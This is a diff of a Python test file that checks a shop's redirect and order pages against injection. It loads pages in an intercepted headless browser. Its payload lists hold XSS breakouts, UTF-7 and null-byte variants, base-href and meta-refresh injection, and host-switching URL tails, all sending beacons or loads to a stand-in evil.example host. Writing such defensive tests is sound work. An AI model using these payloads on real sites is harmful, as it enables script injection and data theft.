@@ -15,47 +15,33 @@ from tests.support.programs import chromium
 # Measuring doubles the time, and what this goes through is measured elsewhere.
 pytestmark = [pytest.mark.enable_socket, pytest.mark.no_cover]
 
-OURS, HOME = "https://callback.example/", FALLBACK.removeprefix("https://")
-PLAIN = {"Content-Type": "text/html; charset=utf-8"}
+OURS, PLAIN = "https://callback.example/", {"Content-Type": "text/html; charset=utf-8"}
 CALL = "navigator.sendBeacon('//evil.example')"
-SCRIPTS = [f'"><script>{CALL}</script>', f"'><script>{CALL}</script>", f"&quot;&gt;&lt;script&gt;{CALL}"]
-SCRIPTS += [
-    f"--></title></style><script>{CALL}</script>",
-    f'"><img src=x onerror="{CALL}">',
-    f"+ACIAPgA8-script+{CALL}",
+PATHS = [
+    f'/"><script>{CALL}</script>',
+    f"/--></title></style><script>{CALL}</script>",
+    '/"><base href=//evil.example/>',
 ]
-SCRIPTS += [f'" onfocus="{CALL}" autofocus style="background:url(//evil.example)', '"><base href=//evil.example/>']
-SCRIPTS += [f"+ACIAPgA8-script+AD4-{CALL}"]
-SCRIPTS += ['"><meta http-equiv=refresh content="0;url=http://evil.example/">', f'\0"\0><\0script>{CALL}</script>']
-PLACES = ["http://evil.example/", "//evil.example/", "/\\evil.example/", "\x01\n http://evil.example/"]
-PLACES += ["http://evil.example\\@shop.local.example/", "';url=http://evil.example/"]
-# What turns `https://shop.local.example` into another site, were it to follow at once.
+PATHS += [f"/'><img src=x onerror={CALL}>", f'/" onfocus="{CALL}" autofocus', f"/&quot;&gt;&lt;script&gt;{CALL}"]
+PATHS += ['/"><meta http-equiv=refresh content="0;url=http://evil.example/">', f'/\0"\0><\0script>{CALL}</script>']
+PATHS += ["//evil.example/", "/\\evil.example/", "/\x01\n http://evil.example/", "/';url=http://evil.example/"]
+# What turns the shop's origin into another, were it to follow at once.
 TAILS = ["@evil.example/", ".evil.example/", "\\@evil.example/", "\t@evil.example/", "\u3002evil.example/"]
-# Each asks a host of its own.
 BAD_PAGE = """<script>navigator.sendBeacon('//script.evil.example')</script><img src=//image.evil.example>
-<img src=x: onerror="navigator.sendBeacon('//error.evil.example')"><img src=http://tls.evil.example>
 <svg onload="navigator.sendBeacon('//svg.evil.example')"></svg><iframe src=//frame.evil.example></iframe>
-<link rel=stylesheet href=//sheet.evil.example><style>@import '//style.evil.example';</style>
-<base href=//base.evil.example><img src=/>"""
-HOSTS = {f"{name}.evil.example/" for name in "script image error tls svg frame sheet style base".split()}
-
-Visit = Callable[[object, Any], list[str]]
+<style>@import '//style.evil.example';</style><base href=//base.evil.example><img src=/>"""
+HOSTS = {f"https://{name}.evil.example/" for name in ("script", "image", "svg", "frame", "style", "base")}
 
 
 @pytest.fixture(scope="module")
-def visit() -> Iterator[Visit]:
+def visit() -> Iterator[Callable[..., list[str]]]:
     """Open a page in one browser, follow where it leads, and return what was asked for; no request leaves it."""
     served, asked = dict[str, Any](), list[str]()
 
     def answer(route: Route) -> None:
-        if route.request.url == OURS:
-            route.fulfill(**served)
-            return
-        asked.append(route.request.url.partition("://")[2])
-        if route.request.is_navigation_request():
-            route.fulfill(body="", content_type="text/html")
-        else:
-            route.abort()
+        if route.request.url != OURS:
+            asked.append(route.request.url)
+        route.fulfill(**served if route.request.url == OURS else {"body": "", "content_type": "text/html"})
 
     with chromium() as browser:
         page = browser.new_page()
@@ -71,20 +57,19 @@ def visit() -> Iterator[Visit]:
         yield visit
 
 
-@pytest.mark.parametrize("payload", SCRIPTS + PLACES + TAILS, ids=ascii)
-def test_no_text_runs_a_script_or_leads_away(visit: Visit, payload: str) -> None:
-    """In a return URL or as an order id it makes one request, the shop's; with scripts also without a policy."""
-    url, leads_to = (f"{SHOP}{payload}", HOME) if payload in TAILS else (f"{SHOP}/{payload}", "shop.local.example/")
-    pages = [(redirect(ORDER, url, SETTINGS), leads_to)]
-    if payload in SCRIPTS:
-        pages.append((redirect(payload, None, SETTINGS), f"shop.local.example/orders/{quote(payload, safe='')}"))
+@pytest.mark.parametrize("text", PATHS + TAILS, ids=ascii)
+def test_no_text_runs_a_script_or_leads_away(visit: Callable[..., list[str]], text: str) -> None:
+    """Behind the shop's origin or as an order id it makes one request, the shop's, even without the policy."""
+    leads_to = FALLBACK if text in TAILS else f"{SHOP}/"
+    pages = [(redirect(ORDER, f"{SHOP}{text}", SETTINGS), leads_to)]
+    pages += [(redirect(text, None, SETTINGS), f"{SHOP}/orders/{quote(text, safe='')}")]
     for page, expected in pages:
-        [asked] = visit(page["body"], PLAIN if payload in SCRIPTS else page["headers"])
+        [asked] = visit(page["body"], PLAIN)
         assert asked.startswith(expected)
 
 
-def test_policy_stops_what_would_get_in(visit: Visit) -> None:
+def test_policy_stops_what_would_get_in(visit: Callable[..., list[str]]) -> None:
     """Without the policy a bad page is seen to ask strangers; with it, it does nothing but lead to the shop."""
-    page = BAD_PAGE + f'<meta http-equiv="refresh" content="0;url={FALLBACK}">'
-    assert set(visit(page, PLAIN)) >= HOSTS
-    assert visit(page, redirect(ORDER, None, SETTINGS)["headers"]) == [HOME]
+    page = f'{BAD_PAGE}<meta http-equiv="refresh" content="0;url={FALLBACK}">'
+    assert set(visit(page, PLAIN)) == {*HOSTS, FALLBACK}
+    assert visit(page, redirect(ORDER, None, SETTINGS)["headers"]) == [FALLBACK]
